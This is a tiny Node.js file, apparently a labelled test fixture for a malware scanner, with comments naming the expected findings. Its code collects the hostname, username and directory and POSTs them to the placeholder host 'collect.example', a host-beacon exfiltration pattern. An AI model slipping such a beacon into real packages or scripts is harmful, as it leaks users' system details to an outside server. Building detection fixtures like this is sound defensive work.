const os = require('os');
const https = require('https');

const who = { host: os.hostname(), user: os.userInfo().username, folder: __dirname };
const request = https.request({ hostname: 'collect.example', path: '/i', method: 'POST' }); // expect: malicious-command/lifecycle-script
request.write(JSON.stringify(who)); // expect: data-exfiltration/host-beacon
request.end();
